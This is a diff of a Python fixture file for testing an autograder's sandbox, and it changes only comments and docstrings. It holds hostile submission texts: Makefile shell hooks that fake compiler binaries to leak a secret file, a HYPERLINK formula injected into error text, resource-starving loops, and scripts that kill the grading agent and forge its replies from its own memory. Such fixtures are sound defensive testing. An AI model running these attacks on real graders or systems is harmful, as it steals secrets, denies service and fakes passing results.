@@ -1,20 +1,19 @@
-"""Hostile texts for answer cells: Makefiles, C and guest scripts, and what is to be said of each.
+"""Hostile texts for answer cells: Makefiles, C and guest scripts, and the expected messages about each.
 
-None of them does what its exercise in `attacks` asks for. Where something is stolen, it is shown in a place that the
-learner would get to read; what is said then also shows that the attack was really tried. What @canary@ and its like
-stand for is told in `attacks`.
+None of them solves its exercise in `attacks`. An attack that steals something prints it where the learner would read
+it; the expected message also proves that the attack really ran. `attacks` explains @canary@ and the other placeholders.
 """
 
 from __future__ import annotations
 
-Texts = dict[str, tuple[str, str]]  # name -> text, regular expression for what is said of it
+Texts = dict[str, tuple[str, str]]  # name -> text, regular expression for the messages about it
 
 # ---- the build -----------------------------------------------------------------------------------------------------
 
 OBJ = "obj-m += pipes.o\n"
 NOTHING = "No such file"
 SILENT = "`pipes at 120` was not logged"
-# A program that says what it stole as a compiler's complaint, which the learner would get to read.
+# A program that prints what it stole as a compiler's message, which the learner would read.
 THIEF = (
     "$(shell printf '#!/bin/sh\\necho \"pipes.c:1:1: error: $$(cat @canary@ 2>&1)\"\\nexit 1\\n' >/tmp/thief; "
     "chmod +x /tmp/thief; cp /tmp/thief /tmp/cc1; cp /tmp/thief /tmp/as)\n"
@@ -115,7 +114,7 @@ OTHER_MAKEFILES: Texts = {
     ),
     "exception texts with formulas": (f'{OBJ}$(error =HYPERLINK("http://127.0.0.1:@port@";"x"))\n', "HYPERLINK"),
 }
-# Those that crowd the machine.
+# Makefiles that load the machine.
 LAST_MAKEFILES: Texts = {
     "one submission starving the others": (
         f"{OBJ}$(shell for i in 1 2 3 4; do head -c 700M /dev/zero | tail >/dev/null & done; sleep 9)\n",
@@ -155,7 +154,7 @@ SOURCES: Texts = {
 
 
 def brass(init: str = "", end: str = "", late: str = "", *, plays: bool = True) -> str:
-    """A module that plays, so that only what it does besides keeps it from points."""
+    """A module that does what the exercise asks for, so that only its additional code can make it fail."""
     play = 'pr_info("brass plays at %d\\n", level);' if plays else ""
     return f"""\
 #include <linux/module.h>
@@ -238,12 +237,12 @@ OTHER_SOURCES: Texts = {
 }
 
 UNLIT = "`lamp at 7` was not logged"
-# The first process ends with the agent: on a crowded machine its panic may be there before what is forged.
+# The first process ends with the agent; on a busy machine, its panic may come before the forged answer.
 CUT = "cut off|Attempted to kill init"
 
 
 def impostor(frames: str) -> str:
-    """A script that kills the agent and writes to its port in its stead."""
+    """A script that kills the agent and writes frames to its port."""
     return (
         "cat >/run/impostor <<'END'\nkillall -9 agent\n"
         f"for port in /dev/vport*; do\n    while :; do {frames}; done >$port\ndone\nEND\n"
@@ -252,7 +251,7 @@ def impostor(frames: str) -> str:
 
 
 def search(what: str) -> str:
-    """A script that does what it is asked for if it finds a secret, and only then."""
+    """A script that solves the exercise only if it finds a secret."""
     pattern = "@secret@[0-9a-f]\\{8\\}[0-9a-f]*"
     return (
         f"found=$({what} 2>/dev/null | tr '\\0' '\\n' | grep -ao '{pattern}' | head -n 1)\n"
@@ -260,8 +259,8 @@ def search(what: str) -> str:
     )
 
 
-# An agent of one's own that answers all questions as if the lamp were lit. The id of the request under way is in the
-# true agent's memory, behind a 1 and before the number of the process that serves it.
+# A forged agent that answers all requests as if the lamp were lit. The id of the current request is in the real agent's
+# memory, after a 1 and before the pid of the process that serves it.
 FORGER = r"""cp /proc/self/mounts /proc/self/mountinfo /run
 for range in $(grep rw-p /proc/$PPID/maps | grep -v 'stack\|vvar' | cut -d' ' -f1); do
     from=$((0x${range%-*} / 4096)); to=$((0x${range#*-} / 4096))
@@ -300,7 +299,7 @@ END
 setsid sh /run/forger $PPID </dev/null >/dev/null 2>&1 &
 sleep 9
 """
-# A frame that says that a command ended well, and one that greets, for a request that nobody made.
+# A frame for the successful end of a command, and one for a hello, for requests that were never made.
 ENDED = "printf '\\004\\000\\000\\000\\001\\000\\000\\000x\\000\\000\\000\\000'"
 GREETED = "printf '\\000\\000\\000\\000\\000\\000\\000\\000h'"
 SCRIPTS: Texts = {
